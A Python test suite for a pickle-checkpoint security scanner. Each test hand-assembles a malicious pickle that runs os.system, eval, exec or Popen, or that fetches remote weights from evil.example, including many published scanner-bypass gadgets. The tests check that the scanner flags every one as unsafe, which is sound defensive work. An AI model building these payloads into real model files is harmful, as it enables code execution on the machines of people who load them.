"""One test per known attack on pickle scanners (fickling/picklescan/ModelScan bypass
write-ups, JFrog and ProtectAI reports): each must end `unsafe` with the right code."""

from __future__ import annotations

import pickle
from typing import Any

import pytest

from ckptguard.core.errors import Code
from tests.builders.pickle_asm import asm


def codes(an: Any) -> set[Code]:
    return {f.code for f in an.findings}


def messages(an: Any, code: Code) -> str:
    return "\n".join(f.message for f in an.findings if f.code == code)


def call_os_system(module: str = "os", name: str = "system") -> bytes:
    return asm(("PROTO", 2), ("GLOBAL", module, name), ("BINUNICODE", "touch /tmp/x"), "TUPLE1",
               "REDUCE", "STOP")


def test_plain_global_os_system(judge: Any) -> None:
    an, verdict = judge(call_os_system())
    assert verdict == "unsafe"
    assert {Code.PICKLE_DANGEROUS_GLOBAL, Code.PICKLE_DANGEROUS_CALL} <= codes(an)
    assert an.globals[("os", "system")].status == "dangerous"
    assert "os.system('touch /tmp/x')" in messages(an, Code.PICKLE_DANGEROUS_CALL)


def test_posix_alias_of_os(judge: Any) -> None:
    an, verdict = judge(call_os_system("posix"))
    assert verdict == "unsafe" and an.globals[("posix", "system")].status == "dangerous"


def test_nt_alias_of_os(judge: Any) -> None:
    an, verdict = judge(call_os_system("nt"))
    assert verdict == "unsafe" and an.globals[("nt", "system")].status == "dangerous"


def test_py2_builtin_module_name(judge: Any) -> None:
    """`__builtin__` is mapped to `builtins` by torch and by CPython (protocol < 3)."""
    an, verdict = judge(call_os_system("__builtin__", "eval"))
    assert verdict == "unsafe"
    assert an.globals[("builtins", "eval")].status == "dangerous"


def test_py2_builtin_name_at_protocol_4(judge: Any) -> None:
    """CPython does not map at protocol >= 3; the raw name is judged as well."""
    data = asm(("PROTO", 4), ("SHORT_BINUNICODE", "__builtin__"), ("SHORT_BINUNICODE", "exec"),
               "STACK_GLOBAL", ("SHORT_BINUNICODE", "x=1"), "TUPLE1", "REDUCE", "STOP")
    an, verdict = judge(data)
    assert verdict == "unsafe" and Code.PICKLE_DANGEROUS_GLOBAL in codes(an)


def test_stack_global_strings_via_memo(judge: Any) -> None:
    """Module and name come from the memo, never adjacent to STACK_GLOBAL."""
    data = asm(("PROTO", 4), ("SHORT_BINUNICODE", "subprocess"), ("BINPUT", 1), "POP",
               ("SHORT_BINUNICODE", "check_output"), ("BINPUT", 2), "POP",
               ("BINGET", 1), ("BINGET", 2), "STACK_GLOBAL",
               "EMPTY_LIST", ("SHORT_BINUNICODE", "id"), "APPEND", "TUPLE1", "REDUCE", "STOP")
    an, verdict = judge(data)
    assert verdict == "unsafe"
    assert an.globals[("subprocess", "check_output")].status == "dangerous"


def test_getattr_of_import_chain(judge: Any) -> None:
    """getattr(__import__('os'), 'system')('id'): no `os` global anywhere in the pickle."""
    data = asm(("PROTO", 2), ("GLOBAL", "builtins", "getattr"),
               ("GLOBAL", "builtins", "__import__"), ("BINUNICODE", "os"), "TUPLE1", "REDUCE",
               ("BINUNICODE", "system"), "TUPLE2", "REDUCE",
               ("BINUNICODE", "id"), "TUPLE1", "REDUCE", "STOP")
    an, verdict = judge(data)
    assert verdict == "unsafe"
    text = messages(an, Code.PICKLE_DANGEROUS_CALL)
    assert "callable computed by another call: os.system" in text


def test_getattr_on_allowlisted_object(judge: Any) -> None:
    """getattr(torch.Tensor, '__class__') etc.: builtins.getattr itself is dangerous."""
    data = asm(("PROTO", 2), ("GLOBAL", "builtins", "getattr"), ("GLOBAL", "torch", "Tensor"),
               ("BINUNICODE", "__subclasses__"), "TUPLE2", "REDUCE", "EMPTY_TUPLE", "REDUCE", "STOP")
    an, verdict = judge(data)
    assert verdict == "unsafe"
    assert "torch.Tensor.__subclasses__" in messages(an, Code.PICKLE_DANGEROUS_CALL)


def test_attrgetter_gadget(judge: Any) -> None:
    data = asm(("PROTO", 2), ("GLOBAL", "operator", "attrgetter"), ("BINUNICODE", "system"),
               "TUPLE1", "REDUCE",
               ("GLOBAL", "importlib", "import_module"), ("BINUNICODE", "os"), "TUPLE1", "REDUCE",
               "TUPLE1", "REDUCE", ("BINUNICODE", "id"), "TUPLE1", "REDUCE", "STOP")
    an, verdict = judge(data)
    assert verdict == "unsafe"
    assert "os.system" in messages(an, Code.PICKLE_DANGEROUS_CALL)


def test_methodcaller_gadget(judge: Any) -> None:
    data = asm(("PROTO", 2), ("GLOBAL", "_operator", "methodcaller"), ("BINUNICODE", "system"),
               ("BINUNICODE", "id"), "TUPLE2", "REDUCE", ("GLOBAL", "os", "path"), "TUPLE1",
               "REDUCE", "STOP")
    an, verdict = judge(data)
    assert verdict == "unsafe"
    assert an.globals[("_operator", "methodcaller")].status == "dangerous"


def test_functools_partial_wraps_dangerous_callable(judge: Any) -> None:
    data = asm(("PROTO", 2), ("GLOBAL", "functools", "partial"), ("GLOBAL", "os", "system"),
               ("BINUNICODE", "id"), "TUPLE2", "REDUCE", "EMPTY_TUPLE", "REDUCE", "STOP")
    an, verdict = judge(data)
    assert verdict == "unsafe"
    assert "os.system is passed to functools.partial" in messages(an, Code.PICKLE_DANGEROUS_CALL)


def test_nested_pickle_loads_via_codecs_encode(judge: Any) -> None:
    """pickle.loads(_codecs.encode('<payload>', 'latin1')): the inner payload is judged too."""
    inner = call_os_system("subprocess", "getoutput")
    data = asm(("PROTO", 2), ("GLOBAL", "pickle", "loads"), ("GLOBAL", "_codecs", "encode"),
               ("BINUNICODE", inner.decode("latin-1")), ("BINUNICODE", "latin1"), "TUPLE2",
               "REDUCE", "TUPLE1", "REDUCE", "STOP")
    an, verdict = judge(data)
    assert verdict == "unsafe"
    assert Code.PICKLE_NESTED_DESERIALIZER in codes(an)
    nested = an.globals[("subprocess", "getoutput")]
    assert nested.status == "dangerous" and nested.record is not None and "nested" in nested.record


def test_inst_opcode_protocol_0(judge: Any) -> None:
    data = asm("MARK", ("STRING", "id"), ("INST", "os", "system"), "STOP")
    an, verdict = judge(data)
    assert verdict == "unsafe" and "INST calls os.system" in messages(an, Code.PICKLE_DANGEROUS_CALL)


def test_obj_opcode(judge: Any) -> None:
    data = asm("MARK", ("GLOBAL", "subprocess", "Popen"), ("STRING", "id"), "OBJ", "STOP")
    an, verdict = judge(data)
    assert verdict == "unsafe" and "OBJ calls subprocess.Popen" in messages(an, Code.PICKLE_DANGEROUS_CALL)


def test_newobj_ex_of_dangerous_class(judge: Any) -> None:
    data = asm(("PROTO", 4), ("GLOBAL", "subprocess", "Popen"), ("SHORT_BINUNICODE", "id"),
               "TUPLE1", "EMPTY_DICT", "NEWOBJ_EX", "STOP")
    an, verdict = judge(data)
    assert verdict == "unsafe" and "NEWOBJ_EX calls subprocess.Popen" in messages(
        an, Code.PICKLE_DANGEROUS_CALL)


def test_ext_code_callable(judge: Any) -> None:
    """EXT1 hides the global in copyreg's registry: statically unknowable."""
    data = asm(("PROTO", 2), ("EXT1", 7), ("BINUNICODE", "id"), "TUPLE1", "REDUCE", "STOP")
    an, verdict = judge(data)
    assert verdict == "unsafe"
    assert Code.PICKLE_EXTENSION_CODE in codes(an)
    assert "extension code 7" in messages(an, Code.PICKLE_DANGEROUS_CALL)


def test_persistent_load_result_called(judge: Any) -> None:
    data = asm(("PROTO", 2), ("BINUNICODE", "module"), "TUPLE1", "BINPERSID", ("BINUNICODE", "id"),
               "TUPLE1", "REDUCE", "STOP")
    an, verdict = judge(data)
    assert verdict == "unsafe" and "persistent_load" in messages(an, Code.PICKLE_DANGEROUS_CALL)


def test_non_identifier_name_padding(judge: Any) -> None:
    """'os ' / 'system\\t': a lenient resolver or a human reads os.system."""
    data = asm(("PROTO", 4), ("SHORT_BINUNICODE", "os "), ("SHORT_BINUNICODE", "system\t"),
               "STACK_GLOBAL", "STOP")
    an, verdict = judge(data)
    assert verdict == "unsafe"
    assert {Code.PICKLE_DANGEROUS_GLOBAL, Code.PICKLE_NON_ASCII_GLOBAL} <= codes(an)


def test_newline_inside_stack_global_name(judge: Any) -> None:
    data = asm(("PROTO", 4), ("SHORT_BINUNICODE", "os\nsystem"), ("SHORT_BINUNICODE", "x"),
               "STACK_GLOBAL", "STOP")
    an, verdict = judge(data)
    assert verdict == "unsafe" and Code.PICKLE_NON_ASCII_GLOBAL in codes(an)


def test_unicode_confusable_module(judge: Any) -> None:
    """Cyrillic 'о' in 'оs': displays as os.system."""
    data = asm(("PROTO", 2), ("GLOBAL", "оs".encode(), b"system"), "STOP")
    an, verdict = judge(data)
    assert verdict == "unsafe"
    assert "confusable" in messages(an, Code.PICKLE_DANGEROUS_GLOBAL)


def test_fullwidth_nfkc_name(judge: Any) -> None:
    data = asm(("PROTO", 2), ("GLOBAL", b"builtins", "ｅｖａｌ".encode()), "STOP")
    an, verdict = judge(data)
    assert verdict == "unsafe" and "NFKC" in messages(an, Code.PICKLE_DANGEROUS_GLOBAL)


def test_dotted_name_introspection(judge: Any) -> None:
    """Protocol 4 resolves dotted names attribute by attribute."""
    data = asm(("PROTO", 4), ("SHORT_BINUNICODE", "torch"),
               ("SHORT_BINUNICODE", "Tensor.__class__.__base__.__subclasses__"), "STACK_GLOBAL",
               "STOP")
    an, verdict = judge(data)
    assert verdict == "unsafe" and "__class__" in messages(an, Code.PICKLE_DANGEROUS_GLOBAL)


def test_dotted_name_to_dangerous_submodule(judge: Any) -> None:
    data = asm(("PROTO", 4), ("SHORT_BINUNICODE", "torch"), ("SHORT_BINUNICODE", "hub.load"),
               "STACK_GLOBAL", "STOP")
    _, verdict = judge(data)
    assert verdict == "unsafe"


def test_allowlisted_rebuilder_with_dangerous_func(judge: Any) -> None:
    """_rebuild_from_type_v2(func, type, args, state) calls func(*args): pass it eval."""
    data = asm(("PROTO", 2), ("GLOBAL", "torch._tensor", "_rebuild_from_type_v2"),
               ("GLOBAL", "builtins", "eval"), ("GLOBAL", "torch", "Tensor"),
               ("BINUNICODE", "__import__('os').system('id')"), "TUPLE1", "NONE", "TUPLE",
               "REDUCE", "STOP")
    # TUPLE needs a MARK: build the 4-tuple with MARK ... TUPLE instead
    data = asm(("PROTO", 2), ("GLOBAL", "torch._tensor", "_rebuild_from_type_v2"), "MARK",
               ("GLOBAL", "builtins", "eval"), ("GLOBAL", "torch", "Tensor"),
               ("BINUNICODE", "__import__('os').system('id')"), "TUPLE1", "NONE", "TUPLE",
               "REDUCE", "STOP")
    an, verdict = judge(data)
    assert verdict == "unsafe"
    assert an.globals[("torch._tensor", "_rebuild_from_type_v2")].status == "allowed"
    assert "builtins.eval is passed to torch._tensor._rebuild_from_type_v2" in messages(
        an, Code.PICKLE_DANGEROUS_CALL)


def test_build_plants_setstate(judge: Any) -> None:
    """BUILD {'__setstate__': os.system}, then BUILD 'id' calls os.system('id')."""
    data = asm(("PROTO", 2), ("GLOBAL", "collections", "OrderedDict"), "EMPTY_TUPLE", "REDUCE",
               "EMPTY_DICT", ("BINUNICODE", "__setstate__"), ("GLOBAL", "os", "system"),
               "SETITEM", "BUILD", ("BINUNICODE", "id"), "BUILD", "STOP")
    an, verdict = judge(data)
    assert verdict == "unsafe" and "BUILD sets __setstate__" in messages(an, Code.PICKLE_DANGEROUS_CALL)


def test_uuid_get_command_stdout(judge: Any) -> None:
    """picklescan bypass (2025): uuid._get_command_stdout runs a command."""
    data = asm(("PROTO", 2), ("GLOBAL", "uuid", "_get_command_stdout"), ("BINUNICODE", "id"),
               "TUPLE1", "REDUCE", "STOP")
    _, verdict = judge(data)
    assert verdict == "unsafe"


def test_pydoc_locate_import(judge: Any) -> None:
    data = asm(("PROTO", 2), ("GLOBAL", "pydoc", "locate"), ("BINUNICODE", "os.system"), "TUPLE1",
               "REDUCE", ("BINUNICODE", "id"), "TUPLE1", "REDUCE", "STOP")
    an, verdict = judge(data)
    assert verdict == "unsafe" and "os.system" in messages(an, Code.PICKLE_DANGEROUS_CALL)


def test_numpy_testing_runstring(judge: Any) -> None:
    data = asm(("PROTO", 2), ("GLOBAL", "numpy.testing._private.utils", "runstring"),
               ("BINUNICODE", "import os"), "EMPTY_DICT", "TUPLE2", "REDUCE", "STOP")
    _, verdict = judge(data)
    assert verdict == "unsafe"


def test_torch_storage_load_from_bytes(judge: Any) -> None:
    """plain pickle.dumps(tensor) nests torch.load(weights_only=False) of raw bytes."""
    data = asm(("PROTO", 2), ("GLOBAL", "torch.storage", "_load_from_bytes"),
               ("BINBYTES", b"PK\x03\x04..."), "TUPLE1", "REDUCE", "STOP")
    an, verdict = judge(data)
    assert verdict == "unsafe" and Code.PICKLE_NESTED_DESERIALIZER in codes(an)


def test_torch_fx_reduce_graph_module_exec(judge: Any) -> None:
    data = asm(("PROTO", 2), ("GLOBAL", "torch.fx.graph_module", "reduce_graph_module"),
               "EMPTY_DICT", ("BINUNICODE", "import os"), "TUPLE2", "REDUCE", "STOP")
    _, verdict = judge(data)
    assert verdict == "unsafe"


def test_reconstructor_instantiates_popen(judge: Any) -> None:
    """copyreg._reconstructor(Popen, Popen, ['id']) runs Popen.__init__."""
    data = asm(("PROTO", 2), ("GLOBAL", "copy_reg", "_reconstructor"), "MARK",
               ("GLOBAL", "subprocess", "Popen"), ("GLOBAL", "subprocess", "Popen"), "EMPTY_LIST",
               ("BINUNICODE", "id"), "APPEND", "TUPLE", "REDUCE", "STOP")
    an, verdict = judge(data)
    assert verdict == "unsafe"
    assert an.globals[("copyreg", "_reconstructor")].status == "unknown"
    assert "subprocess.Popen is passed to copyreg._reconstructor" in messages(
        an, Code.PICKLE_DANGEROUS_CALL)


def test_sys_modules_getitem(judge: Any) -> None:
    data = asm(("PROTO", 4), ("SHORT_BINUNICODE", "sys"), ("SHORT_BINUNICODE", "modules"),
               "STACK_GLOBAL", "STOP")
    _, verdict = judge(data)
    assert verdict == "unsafe"


def test_user_allowlist_cannot_launder_eval(judge: Any) -> None:
    """add_safe_globals([eval]) makes torch load it; it is still code execution."""
    an, verdict = judge(call_os_system("builtins", "eval"), allow=frozenset({"builtins.eval"}))
    assert verdict == "unsafe" and an.globals[("builtins", "eval")].status == "dangerous"


def test_protocol_5_frame_exec(judge: Any) -> None:
    data = pickle.dumps(0, protocol=5)[:2] + asm(
        ("FRAME", 40), ("SHORT_BINUNICODE", "builtins"), ("SHORT_BINUNICODE", "exec"),
        "STACK_GLOBAL", ("SHORT_BINUNICODE", "x=1"), "TUPLE1", "REDUCE", "STOP")
    _, verdict = judge(data)
    assert verdict == "unsafe"


def test_legacy_module_persistent_id_hides_callable(judge: Any) -> None:
    """Legacy persistent_load returns pid[1] for ('module', cls, file, src): call it."""
    data = asm(("PROTO", 2), "MARK", ("BINUNICODE", "module"), ("GLOBAL", "os", "system"), "NONE",
               "NONE", "TUPLE", "BINPERSID", ("BINUNICODE", "id"), "TUPLE1", "REDUCE", "STOP")
    an, verdict = judge(data)
    assert verdict == "unsafe"
    assert "os.system through a 'module' persistent id" in messages(an, Code.PICKLE_DANGEROUS_CALL)


# -- red team round 3: globals that ran code under pickle.load but were only `unknown` --------

class G:
    """A global pushed by STACK_GLOBAL (protocol 4 resolves dotted names attribute by attribute)."""

    def __init__(self, module: str, name: str, *args: Any) -> None:
        self.module, self.name, self.args = module, name, args

    def items(self, call: bool) -> list[Any]:
        out: list[Any] = [("SHORT_BINUNICODE", self.module), ("SHORT_BINUNICODE", self.name),
                          "STACK_GLOBAL"]
        if call:
            out += ["MARK", *[i for a in self.args for i in arg_items(a)], "TUPLE", "REDUCE"]
        return out


class Call(G):
    """`module.name(*args)` as a value."""


def arg_items(value: Any) -> list[Any]:
    if isinstance(value, Call):
        return value.items(call=True)
    if isinstance(value, G):
        return value.items(call=False)
    if isinstance(value, str):
        return [("BINUNICODE", value)]
    if isinstance(value, bool):
        return ["NEWTRUE" if value else "NEWFALSE"]
    if isinstance(value, int):
        return [("BININT", value)]
    if isinstance(value, float):
        return [("BINFLOAT", value)]
    if isinstance(value, bytes):
        return [("SHORT_BINBYTES", value)]
    if isinstance(value, list):
        return ["EMPTY_LIST", "MARK", *[i for v in value for i in arg_items(v)], "APPENDS"]
    if isinstance(value, dict):
        assert not value
        return ["EMPTY_DICT"]
    raise TypeError(value)


def reduce_pickle(call: Call) -> bytes:
    return asm(("PROTO", 4), *call.items(call=True), "STOP")


CMD = "__import__('os').system('touch /tmp/ckptguard-pwned')"
NS = Call("types", "SimpleNamespace")


@pytest.mark.parametrize("call", [
    Call("sympy", "sympify", CMD),
    Call("sympy.core.sympify", "sympify", CMD),
    Call("sympy.core.sympify", "kernS", CMD),
    Call("sympy.parsing.sympy_parser", "parse_expr", CMD),
    Call("sympy.parsing.sympy_parser", "eval_expr", CMD, {}, {}),
    Call("sympy", "S", CMD),
    Call("sympy", "lambdify", [], CMD),
    Call("typing", "_eval_type", Call("typing", "ForwardRef", CMD), {}, {}),
    Call("typing", "ForwardRef._evaluate", Call("typing", "ForwardRef", CMD), {}, {},
         Call("builtins", "frozenset")),
    Call("_testcapi", "run_in_subinterp", "import os; os.system('id')"),
    Call("_bootsubprocess", "check_output", ["id"]),
    Call("torch.utils.model_zoo", "load_url", "https://evil.example/w.pt"),
    Call("torch.hub", "load_state_dict_from_url", "https://evil.example/w.pt"),
    Call("warnings", "_getcategory", "antigravity.geohash"),
    Call("antigravity", "geohash", 37.4, -122.1, b"2005-05-26-10458.68"),
    Call("_pyio", "open", "/tmp/ckptguard-pwned", "w"),
    Call("_pyio", "FileIO", "/tmp/ckptguard-pwned", "w"),
    Call("xml.sax", "parse", "https://evil.example/x.xml", Call("xml.sax.handler", "ContentHandler")),
    Call("numpy.lib._datasource", "open", "https://evil.example/x.txt"),
    Call("_imp", "init_frozen", "__hello__"),
    Call("_frozen_importlib", "_gcd_import", "antigravity"),
    Call("_frozen_importlib_external", "SourceFileLoader", "m", "/tmp/m.py"),
    Call("torch.utils.benchmark", "Timer.timeit", Call("torch.utils.benchmark", "Timer", CMD), 1),
    Call("torch", "compile", G("torch", "add")),
    Call("torch.library", "Library", "aten", "IMPL"),
    Call("_posixshmem", "shm_unlink", "/psm_victim"),
    Call("_multiprocessing", "sem_unlink", "/mp-victim"),
    Call("_operator", "setitem", G("torch.serialization", "_package_registry"), 0,
         G("builtins", "print")),
], ids=lambda c: f"{c.module}.{c.name}")
def test_red_team_round_3_global_is_unsafe(judge: Any, call: Call) -> None:
    an, verdict = judge(reduce_pickle(call))
    assert verdict == "unsafe", [f.message for f in an.findings]
    assert an.globals[(call.module, call.name)].status == "dangerous"
    assert Code.PICKLE_DANGEROUS_GLOBAL in codes(an)
    assert f"calls {call.module}.{call.name}(" in messages(an, Code.PICKLE_DANGEROUS_CALL)


def test_build_plants_annotations_for_get_type_hints(judge: Any) -> None:
    """BUILD {'__annotations__': {'a': CMD}} on an object, then typing.get_type_hints(obj)."""
    data = asm(("PROTO", 4), ("SHORT_BINUNICODE", "typing"), ("SHORT_BINUNICODE", "get_type_hints"),
               "STACK_GLOBAL", *NS.items(call=True), "EMPTY_DICT",
               ("SHORT_BINUNICODE", "__annotations__"), "EMPTY_DICT", ("SHORT_BINUNICODE", "a"),
               ("BINUNICODE", CMD), "SETITEM", "SETITEM", "BUILD", "TUPLE1", "REDUCE", "STOP")
    an, verdict = judge(data)
    assert verdict == "unsafe"
    assert an.globals[("typing", "get_type_hints")].status == "dangerous"
    assert "BUILD sets __annotations__" in messages(an, Code.PICKLE_DANGEROUS_CALL)


def test_build_plants_annotations_alone(judge: Any) -> None:
    """The planted string annotations are evaluated by whoever inspects the object later."""
    data = asm(("PROTO", 4), *NS.items(call=True), "EMPTY_DICT",
               ("SHORT_BINUNICODE", "__annotations__"), "EMPTY_DICT", ("SHORT_BINUNICODE", "a"),
               ("BINUNICODE", CMD), "SETITEM", "SETITEM", "BUILD", "STOP")
    an, verdict = judge(data)
    assert verdict == "unsafe" and "BUILD sets __annotations__" in messages(
        an, Code.PICKLE_DANGEROUS_CALL)
